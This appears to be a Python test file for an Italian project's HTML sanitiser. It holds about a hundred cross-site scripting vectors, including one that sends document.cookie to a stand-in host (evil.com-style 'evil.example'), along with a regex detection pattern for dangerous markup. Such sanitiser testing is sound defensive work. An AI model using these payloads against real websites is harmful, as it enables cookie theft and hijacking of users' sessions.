import re

import pytest

from cop.sanitize import pulisci_html

# Vectors from the OWASP XSS filter evasion cheat sheet and html5sec.org, adapted.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
    '<IMG SRC="javascript:alert(1);">',
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<IMG SRC=# onmouseover=alert(1)>",
    "<IMG SRC=/ onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JAVASCRIPT:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="http://ok.example" onclick="alert(1)">x</a>',
    '<a href="http://ok.example" style="background:url(javascript:alert(1))">x</a>',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="javascript:alert(1)">',
    "<style>@import 'javascript:alert(1)';</style>",
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="behavior:url(xss.htc)">x</p>',
    "<base href=javascript:alert(1)//>",
    '<table background="javascript:alert(1)">',
    '<td background="javascript:alert(1)">',
    "<bgsound src=javascript:alert(1)>",
    '<img dynsrc="javascript:alert(1)">',
    '<img lowsrc="javascript:alert(1)">',
    "<p onmouseover=alert(1)>x</p>",
    "<strong onclick=alert(1)>x</strong>",
    "<blockquote onmouseenter=alert(1)>x</blockquote>",
    "<h3 onpointerdown=alert(1)>x</h3>",
    "<ul><li onclick=alert(1)>x</li></ul>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script\\x20type='text/javascript'>alert(1);</script>",
    "<script/src=data:,alert(1)></script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    '<a href="http://ok.example" target=_blank>x</a>',
    '<a href="//evil.example/%0Aalert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="ja\nvascript:alert(1)">x</a>',
    '<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="ftp://evil.example/">x</a>',
    '<a xlink:href="javascript:alert(1)">x</a>',
    '<img src="x" srcset="javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<frameset onload=alert(1)>",
    "<x onclick=alert(1)>click</x>",
    "<div onwheel=alert(1)>x</div>",
    '<p id="x" class="y" data-foo="bar" onanimationstart=alert(1)>x</p>',
    '<p>"><script>alert(1)</script></p>',
    "'\"><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</p><script>alert(1)</script><p>",
    "<a href='http://ok.example' onmouseover='alert(1)'>x</a>",
    '<a href="https://ok.example"\nonfocus=alert(1) autofocus>x</a>',
    "<em/onclick=alert(1)>x</em>",
    "<br onload=alert(1)>",
    '<ol type="1" onfocusin=alert(1)>',
    '<h4 style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</h4>',
    '<applet code="javascript:alert(1)"></applet>',
    '<layer src="javascript:alert(1)"></layer>',
    '<ilayer src="javascript:alert(1)"></ilayer>',
    "<portal src=javascript:alert(1)>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">x</a>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<math href="javascript:alert(1)">x</math>',
    "<img src=1 onerror=\"fetch('//evil.example?c='+document.cookie)\">",
    '<a href="http://ok.example" rel="opener">x</a>',
]

DANGEROUS = re.compile(
    r"<\s*(script|iframe|object|embed|svg|math|img|style|link|meta|base|form|input|button|body|frameset|template)"
    r"|\son[a-z]+\s*=|javascript:|vbscript:|data:|style\s*=|srcset|formaction",
    re.IGNORECASE,
)


def test_corpus_has_at_least_100_vectors():
    assert len(XSS_VECTORS) >= 100


@pytest.mark.parametrize("vector", XSS_VECTORS)
def test_xss_vector_is_neutralised(vector):
    cleaned = pulisci_html(vector)
    assert not DANGEROUS.search(cleaned), cleaned


def test_allowed_markup_survives():
    html = (
        "<h3>Obiettivi</h3><p>Testo <strong>forte</strong> e <em>enfasi</em>.<br>A capo</p>"
        "<ul><li>uno</li></ul><ol><li>due</li></ol><blockquote>citazione</blockquote><h4>Note</h4>"
    )
    assert pulisci_html(html) == html


def test_links_keep_safe_schemes_and_get_nofollow_ugc():
    cleaned = pulisci_html('<a href="https://www.regione.toscana.it/">Regione</a> <a href="mailto:a@b.it">scrivi</a>')
    assert '<a href="https://www.regione.toscana.it/" rel="nofollow noopener ugc">Regione</a>' in cleaned
    assert '<a href="mailto:a@b.it" rel="nofollow noopener ugc">scrivi</a>' in cleaned


def test_disallowed_tags_keep_their_text_but_scripts_lose_it():
    assert pulisci_html("<div><span>Budget di Salute</span></div>") == "Budget di Salute"
    assert pulisci_html("prima<script>alert(1)</script>dopo") == "primadopo"


def test_empty_input_gives_empty_string():
    assert pulisci_html(None) == ""
    assert pulisci_html("") == ""
